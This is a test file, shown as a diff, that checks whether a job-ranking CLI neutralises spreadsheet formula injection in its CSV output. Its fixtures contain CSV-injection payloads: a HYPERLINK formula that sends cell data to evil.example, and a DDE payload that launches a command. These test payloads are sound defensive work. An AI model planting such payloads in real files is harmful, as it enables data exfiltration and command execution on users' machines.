@@ -1,0 +1,62 @@
+// Titles and skills come from exports anyone can write: each output format makes them inert
+// for whoever reads it (a spreadsheet, a Markdown renderer, a terminal).
+import { mkdtemp, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { runInProcess as run } from './run-cli.js';
+
+async function export_(rows: string[][]): Promise<string> {
+  const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'curriculum-escaping-')), 'postings.csv');
+  const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
+  await writeFile(file, rows.map((row) => row.map(cell).join(',')).join('\n') + '\n');
+  return file;
+}
+
+/** 40 dated postings of a career whose title and skills are formulas, fewer later than earlier (negative growth). */
+function formulaRows(): string[][] {
+  const rows = [['title', 'skills', 'date_posted']];
+  for (let i = 0; i < 40; i++) rows.push(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1); -2+3', i < 25 ? '2024-01-01' : '2024-12-31']);
+  rows.push(['+cmd|\' /C calc\'!A0', '=1+1', '2024-06-01']);
+  rows.push(['@SUM(A1:A9)', 'sql', '2024-06-01']);
+  return rows;
+}
+
+describe('rank-jobs --format csv neutralises formulas', () => {
+  it('puts a quote before text cells that start like a formula, and keeps numbers numbers', async () => {
+    const file = await export_(formulaRows());
+    const result = await run(['rank-jobs', file, '--format', 'csv']);
+    expect(result.code).toBe(0);
+    const [header, ...rows] = parse(result.stdout) as string[][];
+    expect(header).toEqual(['rank', 'title', 'postings', 'share', 'growth', 'median_age_days', 'top_skills']);
+    expect(rows.map((row) => [row[1], row[4], row[6]])).toEqual([
+      ['\'=hyperlink("http://evil.example/?"&a1,"click")', '-0.4', "'-2+3; @sum(1+1)"],
+      ["'+cmd|' /c calc'!a0", '', "'=1+1"],
+      ["'@sum(a1:a9)", '', 'sql'],
+    ]);
+    for (const row of rows) expect(row.slice(1).filter((cell, i) => i !== 3 && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('neutralises the skills of --job too', async () => {
+    const file = await export_(formulaRows());
+    const result = await run(['rank-jobs', file, '--job', '+cmd|\' /C calc\'!A0', '--format', 'csv']);
+    expect(result.stdout).toBe("skill,postings,share\n'=1+1,1,1\n");
+  });
+
+  it('--csv-raw writes the cells as they are, for programs that read the CSV back', async () => {
+    const file = await export_(formulaRows());
+    const result = await run(['rank-jobs', file, '--format', 'csv', '--csv-raw']);
+    const rows = (parse(result.stdout) as string[][]).slice(1);
+    expect(rows.map((row) => row[1])).toEqual(['=hyperlink("http://evil.example/?"&a1,"click")', "+cmd|' /c calc'!a0", '@sum(a1:a9)']);
+  });
+
+  it('--csv-raw with another format is a usage error', async () => {
+    const file = await export_(formulaRows());
+    expect(await run(['rank-jobs', file, '--format', 'json', '--csv-raw'])).toEqual({
+      code: 2,
+      stdout: '',
+      stderr: 'curriculum: The option --csv-raw applies to the csv format, not "json": add --format csv.\n',
+    });
+  });
+});
